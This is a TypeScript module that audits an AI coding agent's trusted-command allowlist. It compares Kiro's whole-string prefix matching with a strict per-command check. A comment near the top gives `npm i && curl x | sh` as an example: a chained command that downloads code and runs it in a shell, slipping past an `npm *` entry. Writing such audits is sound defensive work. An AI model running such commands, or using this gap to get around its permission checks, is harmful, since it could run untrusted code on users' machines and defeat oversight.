import { parseShell } from './shell';

/**
 * "Is this command covered by the trusted list?", answered twice:
 *
 * - as Kiro 0.x matches (kiroAgent.trustedCommands): each entry is compared with the WHOLE
 *   command string, never split, so `npm *` also trusts `npm i && curl x | sh`;
 * - strictly: every simple command must be covered on its own, and anything that runs code we
 *   cannot see (`$(…)`, backticks, subshells, process substitution) is never covered.
 *
 * Where the two verdicts differ, the trusted list lets through more than its author meant.
 */

export type TrustEntryKind = 'all' | 'prefix' | 'raw-prefix' | 'exact' | 'empty';

export interface TrustEntry {
  entry: string;
  kind: TrustEntryKind;
  /** What the command must equal (exact) or start with (prefix kinds). */
  prefix: string;
}

export interface CoverageSegment {
  text: string;
  covered: boolean;
  /** The first trusted entry (in list order) that covers the segment, or null. */
  rule: string | null;
}

export interface CoverageResult {
  command: string;
  coveredAsToolMatches: boolean;
  coveredStrictly: boolean;
  segments: CoverageSegment[];
  /** The first entry that matches the whole command string (Kiro's verdict), or null. */
  toolMatchRule: string | null;
  /** Why the command is not covered strictly (empty when it is). */
  reasons: string[];
}

/**
 * Reads an entry:
 * - `*` trusts everything;
 * - `prefix *` (a space before the final `*`) trusts `prefix` itself and `prefix <anything>`.
 *   The space is part of what Kiro compares, so `npm *` never covers `npmx`: a word boundary;
 * - `prefix*` (no space) is read as a raw string prefix, so `git*` also covers `gitk`. Kiro
 *   documents only the two forms above; raw prefix is the widest plausible reading, which is the
 *   right side to err on when judging what a list lets through;
 * - anything else (including a `*` in the middle) is an exact string.
 */
export function parseTrustEntry(raw: string): TrustEntry {
  const entry = raw.trim();
  if (entry === '') return { entry, kind: 'empty', prefix: '' };
  if (entry === '*') return { entry, kind: 'all', prefix: '' };
  if (entry.endsWith('*')) {
    const body = entry.slice(0, -1);
    if (/\s$/.test(body)) return { entry, kind: 'prefix', prefix: body.trimEnd() };
    return { entry, kind: 'raw-prefix', prefix: body };
  }
  return { entry, kind: 'exact', prefix: entry };
}

/** Does one trusted entry match one command string (already trimmed)? */
export function entryMatches(entry: string | TrustEntry, command: string): boolean {
  const parsed = typeof entry === 'string' ? parseTrustEntry(entry) : entry;
  switch (parsed.kind) {
    case 'empty':
      return false;
    case 'all':
      return true;
    case 'exact':
      return command === parsed.prefix;
    case 'raw-prefix':
      return command.startsWith(parsed.prefix);
    case 'prefix':
      return command === parsed.prefix || command.startsWith(`${parsed.prefix} `);
  }
}

function firstMatch(entries: readonly TrustEntry[], command: string): string | null {
  return entries.find((entry) => entryMatches(entry, command))?.entry ?? null;
}

export function checkCoverage(trustedCommands: readonly string[], command: string): CoverageResult {
  const whole = command.trim();
  if (whole === '') {
    // Nothing runs, so there is nothing to trust; saying "covered" would only confuse a report.
    return { command, coveredAsToolMatches: false, coveredStrictly: false, segments: [], toolMatchRule: null, reasons: ['The command is empty.'] };
  }
  const entries = trustedCommands.map(parseTrustEntry);
  const toolMatchRule = firstMatch(entries, whole);
  const parsed = parseShell(whole);
  const segments = parsed.segments.map((segment): CoverageSegment => {
    const rule = firstMatch(entries, segment.text);
    return { text: segment.text, covered: rule !== null, rule };
  });

  const reasons: string[] = [];
  if (segments.length === 0) reasons.push('The command holds no simple command (only a comment).');
  for (const segment of segments) {
    if (!segment.covered) reasons.push(`\`${segment.text}\` is not covered by any trusted command.`);
  }
  if (parsed.hasCommandSubstitution) reasons.push('It contains a command substitution `$(…)`, whose command is never covered.');
  if (parsed.hasBackticks) reasons.push('It contains backticks, whose command is never covered.');
  if (parsed.hasSubshell) reasons.push('It contains a subshell `( … )`, which is never covered.');
  if (parsed.hasProcessSubstitution) reasons.push('It contains a process substitution `<(…)`/`>(…)`, which is never covered.');
  if (parsed.hasShellInput) reasons.push('It feeds a here-document or here-string to a shell, which runs it as code that is never covered.');
  // If we cannot read it the way the shell will, we cannot vouch for it.
  for (const error of parsed.errors) reasons.push(`The shell would not read it cleanly: ${error}.`);

  return { command, coveredAsToolMatches: toolMatchRule !== null, coveredStrictly: reasons.length === 0, segments, toolMatchRule, reasons };
}
